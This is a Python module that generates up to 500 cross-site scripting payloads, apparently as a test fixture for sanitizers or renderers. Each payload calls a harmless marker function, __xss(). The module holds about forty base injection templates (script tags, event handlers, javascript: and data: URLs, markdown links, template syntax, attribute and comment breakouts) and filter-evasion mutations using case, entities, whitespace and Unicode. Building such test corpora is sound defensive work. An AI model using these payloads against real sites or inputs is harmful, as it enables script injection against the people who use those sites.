"""Generated script-injection payloads: each one, if a page ran it, would call ``__xss()``.

Markup that runs script (script tags, event handlers, SVG and MathML tricks), ``javascript:``
and ``data:`` URLs, markdown links and images, template syntax, and polyglots that break out
of attributes, comments, text areas and titles; each written several ways (case, entities,
whitespace and encodings that browsers forgive).
"""

from __future__ import annotations

import itertools

CALL = "__xss()"

_BASES = [
    "<script>{call}</script>",
    "<script src=data:text/javascript,{call}></script>",
    "<img src=x onerror={call}>",
    '<img src="x" onerror="{call}">',
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<body onload={call}>",
    '<iframe srcdoc="<script>parent.{call}</script>"></iframe>',
    "<iframe src=javascript:{call}></iframe>",
    '<a href="javascript:{call}">click</a>',
    "<a href=javascript:{call}>x</a>",
    "javascript:{call}",
    "[click me](javascript:{call})",
    "![img](javascript:{call})",
    "<details open ontoggle={call}>",
    "<input autofocus onfocus={call}>",
    "<select autofocus onfocus={call}>",
    "<video><source onerror={call}></video>",
    "<audio src=x onerror={call}>",
    "<marquee onstart={call}>x</marquee>",
    "<object data=javascript:{call}></object>",
    "<embed src=javascript:{call}>",
    "<form><button formaction=javascript:{call}>go</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror={call}>",
    '<noscript><p title="</noscript><img src=x onerror={call}>">',
    '"><script>{call}</script>',
    "'><img src=x onerror={call}>",
    "</textarea><script>{call}</script>",
    "</title><script>{call}</script>",
    "--><script>{call}</script><!--",
    '<!--<img src="--><img src=x onerror={call}//">',
    "<style>@import 'javascript:{call}';</style>",
    "<link rel=stylesheet href=javascript:{call}>",
    '<meta http-equiv=refresh content="0;url=javascript:{call}">',
    "<base href=javascript:{call}//>",
    "{{{{constructor.constructor('{call}')()}}}}",
    "${{{call}}}",
    '<div style="background:url(javascript:{call})">',
    '<a href="data:text/html,<script>parent.{call}</script>">x</a>',
]


def _mutations(payload: str) -> list[str]:
    return [
        payload,
        payload.upper().replace("__XSS()", CALL),
        payload.replace("javascript:", "java\tscript:").replace("<script>", "<ScRiPt >"),
        payload.replace("javascript:", "javascript&#58;").replace("onerror=", "onerror = "),
        payload.replace(" ", "/") + "\u2028",
        payload.replace("<", "\uff1c").replace(">", "\uff1e"),
        payload.replace("=", "\n=\n"),
        f"**{payload}** _{payload}_",
        f"<p>{payload}</p>\n\n```html\n{payload}\n```",
        f"\u202e{payload}\u200b",
        payload.replace(CALL, "top['__x'+'ss']()"),
        payload.replace(CALL, "window.__xss&#40;&#41;"),
        f"{payload}{payload}",
        f"&lt;{payload}&gt;",
    ]


def payloads(count: int = 500) -> list[str]:
    """``count`` distinct payloads (the bases, then their variants, round robin)."""
    seen: dict[str, None] = {}
    variants = [_mutations(base.format(call=CALL)) for base in _BASES]
    for group in itertools.zip_longest(*variants):
        for payload in group:
            if payload is not None and payload not in seen:
                seen[payload] = None
            if len(seen) == count:
                return list(seen)
    raise ValueError(f"only {len(seen)} distinct payloads can be made")
